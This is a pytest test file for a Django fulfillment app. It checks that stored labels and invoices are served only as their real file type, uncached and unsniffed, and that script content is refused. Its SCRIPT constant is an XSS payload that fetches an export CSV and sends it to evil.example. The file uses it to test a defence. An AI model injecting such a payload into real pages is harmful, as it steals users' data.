"""Stored documents are served back only as the type their bytes are: originals as downloads, never
inline, never cached, never sniffed; and a document that is no document (a label stored as a
script before these checks existed) is never served at all. Printing is recorded by a POST."""

import base64

import pytest
from django.contrib.auth.models import Group, User
from django.urls import reverse

from fulfillment.accounts import roles
from fulfillment.documents.models import Document
from fulfillment.sandbox import documents as sandbox_documents
from fulfillment.shipments.models import Package
from fulfillment.stations.models import Station
from fulfillment.stations.selectors import SESSION_KEY
from tests.shipments import factories

pytestmark = pytest.mark.django_db

HX = {"HTTP_HX_REQUEST": "true"}
SCRIPT = b"<script>fetch('/supervision/export.csv').then(r => r.text()).then(t => fetch('//evil.example/?' + t))</script>"
PNG = sandbox_documents.png_bytes(200, 300, [(10, 10, 50, 50)])
PDF = sandbox_documents.pdf_bytes(["Invoice INV-1"])


def _user(username, role):
    user = User.objects.create_user(username, password="pw-for-tests-only")
    user.groups.add(Group.objects.get_or_create(name=role)[0])
    return user


@pytest.fixture
def floor(client):
    station = Station.objects.create(name="Bench A", location_id="LOC")
    shipment = factories.shipment(status="SHIPLABEL_GENERATED")
    package = factories.package(shipment, label_status=Package.LabelStatus.READY)
    return shipment, package, station


def _signed_in(client, role, station):
    client.force_login(_user(role.lower(), role))
    session = client.session
    session[SESSION_KEY] = station.pk
    session.save()
    return client


def _label(shipment, package, content, content_type):
    return Document.objects.create(shipment=shipment, package=package, kind=Document.Kind.LABEL, content=content,
                                   content_type=content_type, original_format="")


def _is_download(response, media_type, extension):
    assert response.status_code == 200
    assert response["Content-Type"] == media_type
    assert response["Content-Disposition"].startswith("attachment;") and response["Content-Disposition"].endswith(
        f'.{extension}"')
    _not_cached_not_sniffed(response)


def _not_cached_not_sniffed(response):
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(("content", "stored_as", "media_type", "extension"), [
    (b"^XA^FDok^FS^XZ", "text/html", "application/zpl", "zpl"),
    (PNG, "text/html", "image/png", "png"),
    (PDF, "application/javascript", "application/pdf", "pdf"),
])
def test_a_station_download_is_the_type_the_bytes_are_whatever_was_stored(client, floor, content, stored_as,
                                                                           media_type, extension):
    shipment, package, station = floor
    label = _label(shipment, package, content, stored_as)
    packer = _signed_in(client, roles.PACKER, station)
    response = packer.get(reverse("shipments:document_download", args=[shipment.amazon_id, label.pk]))
    _is_download(response, media_type, extension)
    assert response.content == content


def test_an_invoice_downloads_as_its_file_not_its_base64(client, floor):
    shipment, _, station = floor
    invoice = Document.objects.create(shipment=shipment, kind=Document.Kind.INVOICE, content=base64.b64encode(PDF),
                                      content_type="text/plain", original_format="PDF")
    response = _signed_in(client, roles.PACKER, station).get(
        reverse("shipments:document_download", args=[shipment.amazon_id, invoice.pk]))
    _is_download(response, "application/pdf", "pdf")
    assert response.content == PDF


def test_a_label_that_is_a_script_is_never_served(client, floor):
    shipment, package, station = floor
    label = _label(shipment, package, SCRIPT, "application/javascript")
    station_client = _signed_in(client, roles.PACKER, station)
    download = station_client.get(reverse("shipments:document_download", args=[shipment.amazon_id, label.pk]))
    assert download.status_code == 422 and SCRIPT not in download.content
    assert download["Content-Type"].startswith("text/plain")
    assert b"not a ZPL, PNG or PDF label" in download.content
    pdf = station_client.get(reverse("shipments:document_pdf", args=[shipment.amazon_id, label.pk]))
    assert pdf.status_code == 422 and SCRIPT not in pdf.content


def test_the_supervisors_original_is_a_download_of_the_sniffed_type(client, floor):
    shipment, package, station = floor
    zpl = _label(shipment, package, b"^XA^FDok^FS^XZ", "text/html")
    Document.objects.filter(pk=zpl.pk).update(original_format="ZPL")
    png = _label(shipment, package, PNG, "text/html")
    supervisor = _signed_in(client, roles.SUPERVISOR, station)
    _is_download(supervisor.get(reverse("supervision:document", args=[zpl.pk])), "application/zpl", "zpl")
    _is_download(supervisor.get(reverse("supervision:document", args=[png.pk]) + "?original=1"), "image/png", "png")


def test_the_supervisors_original_of_a_script_label_is_refused_with_words(client, floor):
    shipment, package, station = floor
    label = _label(shipment, package, SCRIPT, "application/javascript")
    supervisor = _signed_in(client, roles.SUPERVISOR, station)
    response = supervisor.get(reverse("supervision:document", args=[label.pk]) + "?original=1")
    assert response.status_code == 422 and response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert "not a ZPL, PNG or PDF label" in page and "Download the original file" not in page
    assert "<script>fetch" not in page  # shown as words, escaped
    _not_cached_not_sniffed(response)


def test_printable_pdfs_are_never_cached(client, floor):
    shipment, package, station = floor
    label = _label(shipment, package, PDF, "application/pdf")
    packer = _signed_in(client, roles.PACKER, station)
    response = packer.get(reverse("shipments:document_pdf", args=[shipment.amazon_id, label.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    _not_cached_not_sniffed(response)
    supervisor = _signed_in(client, roles.SUPERVISOR, station)
    _not_cached_not_sniffed(supervisor.get(reverse("supervision:document", args=[label.pk])))


def test_a_get_never_records_a_print_and_the_packers_post_does(client, floor):
    shipment, package, station = floor
    label = _label(shipment, package, PDF, "application/pdf")
    packer = _signed_in(client, roles.PACKER, station)
    pdf = reverse("shipments:document_pdf", args=[shipment.amazon_id, label.pk])
    assert packer.get(pdf + "?printed=1").status_code == 200
    package.refresh_from_db()
    assert package.label_printed_at is None and not shipment.events.filter(kind="LABEL_PRINTED").exists()
    assert packer.get(reverse("shipments:label_printed", args=[shipment.amazon_id, label.pk])).status_code == 405
    body = packer.post(reverse("shipments:label_printed", args=[shipment.amazon_id, label.pk]), **HX).content.decode()
    package.refresh_from_db()
    assert package.label_printed_at is not None and shipment.events.filter(kind="LABEL_PRINTED").count() == 1
    assert 'data-action="SHIP"' in body  # the page moves on to Mark shipped
